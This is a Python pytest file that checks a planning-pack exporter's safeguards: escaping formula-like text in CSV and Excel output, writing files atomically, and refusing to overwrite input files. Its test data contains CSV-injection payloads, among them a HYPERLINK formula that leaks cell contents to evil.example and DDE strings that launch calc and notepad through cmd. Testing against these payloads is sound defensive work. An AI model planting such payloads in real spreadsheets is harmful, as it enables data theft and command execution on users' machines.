"""The planning pack: safe writing (formula injection, atomic files, inputs never overwritten), the workbook."""

from __future__ import annotations

import csv
import os

import numpy as np
import openpyxl
import pandas as pd
import pytest

from pmo_forecast import export as X

# Text a spreadsheet would run, or that breaks naive writers: OWASP CSV-injection payloads,
# a DDE payload, tab/CR prefixes, a 10,000-character string, non-Latin scripts, emoji, newlines.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "x" * 10_000,
    "Проект Альфа 项目 プロジェクト مشروع",
    "🚀 launch 👩‍💻",
    "line one\nline two\r\nline three",
]


# --- escaping ----------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_formula_like_text_is_escaped_in_csv(text):
    assert X.is_formula_like(text)
    assert X.escape_csv_value(text) == "'" + text


@pytest.mark.parametrize("value", ["Ann Lee", "", "a=b", "1-2", 5, -1.5, None, np.nan])
def test_ordinary_values_pass_unchanged(value):
    out = X.escape_csv_value(value)
    assert out is value or (isinstance(value, float) and np.isnan(out))


def test_escape_frame_keeps_numbers_and_copies():
    df = pd.DataFrame({"name": pd.Series(["=2+3", "Bo"], dtype="string"), "hours": [-1.0, 2.0]})
    out = X.escape_csv_frame(df)
    assert out["name"].tolist() == ["'=2+3", "Bo"]
    assert out["hours"].tolist() == [-1.0, 2.0]  # a negative number is not text
    assert df["name"].iloc[0] == "=2+3"  # input untouched


def test_csv_round_trip_of_hostile_text(tmp_path):
    df = pd.DataFrame({"project": HOSTILE, "hours": np.arange(len(HOSTILE), dtype=float) - 3})
    X.write_csv(tmp_path / "t.csv", df)
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["project", "hours"]
    cells = [r[0] for r in rows[1:]]
    assert not any(c.startswith(X.FORMULA_PREFIXES) for c in cells)
    # escaped text is the original with one leading quote; the rest is byte-identical
    assert [c[1:] if X.is_formula_like(h) else c for c, h in zip(cells, HOSTILE, strict=True)] == HOSTILE
    assert [float(r[1]) for r in rows[1:]] == df["hours"].tolist()


def test_excel_text_is_cut_at_excels_limit():
    assert X.excel_text("a" * 40_000).__len__() == X.EXCEL_MAX_CHARS
    assert X.excel_text("short") == "short"


# --- the workbook writer -----------------------------------------------------
def test_workbook_writes_hostile_text_as_text(tmp_path):
    df = pd.DataFrame({"project_id": HOSTILE, "p80": np.linspace(1, 2, len(HOSTILE)),
                       "prob_overrun": np.linspace(0, 1, len(HOSTILE)),
                       "due": pd.date_range("2026-07-01", periods=len(HOSTILE))})
    sheet = X.Sheet("Projects", "=HYPERLINK(\"x\")", [X.Block("projects", "-title", df)])
    X.write_workbook(tmp_path / "p.xlsx", [sheet])
    wb = openpyxl.load_workbook(tmp_path / "p.xlsx")
    ws = wb["Projects"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formulas at all
    # xlsxwriter stores CR as the OOXML escape _x000D_, which Excel decodes and openpyxl does not
    texts = {c.value.replace("_x000D_", "\r"): c for c in cells if isinstance(c.value, str)}
    assert set(HOSTILE) <= set(texts)  # every character survives, as text
    assert texts['=HYPERLINK("x")'].quotePrefix  # shown as text when edited in Excel
    assert texts["-1+1"].quotePrefix
    header = [c.value for c in ws[5]]
    assert header[:4] == ["project_id", "p80", "prob_overrun", "due"]
    assert ws.freeze_panes == "B6"
    assert ws.cell(6, 2).number_format == X.NUMBER_FORMATS["hours"]
    assert ws.cell(6, 3).number_format == X.NUMBER_FORMATS["pct"]
    assert ws.cell(6, 4).number_format == X.NUMBER_FORMATS["date"]


# --- atomic writing and refusing inputs --------------------------------------
def test_pack_writer_commits_all_files(tmp_path):
    with X.PackWriter(tmp_path / "out", last="b.xlsx") as w:
        w.path("a.csv").write_text("1")
        w.path("b.xlsx").write_text("2")
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["a.csv", "b.xlsx"]
    mode = (tmp_path / "out" / "a.csv").stat().st_mode & 0o777
    assert mode & 0o044  # readable by others, like any file (mkdtemp staging is private)


def test_interrupted_pack_leaves_previous_pack(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "pack.xlsx").write_text("old pack")
    with pytest.raises(KeyboardInterrupt), X.PackWriter(out, last="pack.xlsx") as w:
        w.path("pack-projects.csv").write_text("new")
        w.path("pack.xlsx").write_text("half")
        raise KeyboardInterrupt
    assert sorted(p.name for p in out.iterdir()) == ["pack.xlsx"]  # no staging folder, no partial file
    assert (out / "pack.xlsx").read_text() == "old pack"


def test_stale_tables_of_an_older_pack_are_removed(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "pack-scenarios.csv").write_text("from an older run with scenarios")
    (out / "notes.txt").write_text("not ours")
    with X.PackWriter(out, last="pack.xlsx", stale_glob="pack-*.csv") as w:
        w.path("pack-projects.csv").write_text("new")
        w.path("pack.xlsx").write_text("new")
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt", "pack-projects.csv", "pack.xlsx"]


def test_output_that_is_an_input_is_refused(tmp_path):
    f = tmp_path / "tasks.csv"
    f.write_text("x")
    with pytest.raises(ValueError, match="refusing to write .*tasks.csv: it is one of the input files"):
        X.refuse_inputs_as_outputs([tmp_path / "sub" / ".." / "tasks.csv"], [f])
    link = tmp_path / "link.csv"
    os.symlink(f, link)
    with pytest.raises(ValueError, match="one of the input files"):
        X.refuse_inputs_as_outputs([link], [f])
    X.refuse_inputs_as_outputs([tmp_path / "other.csv"], [f])  # no error
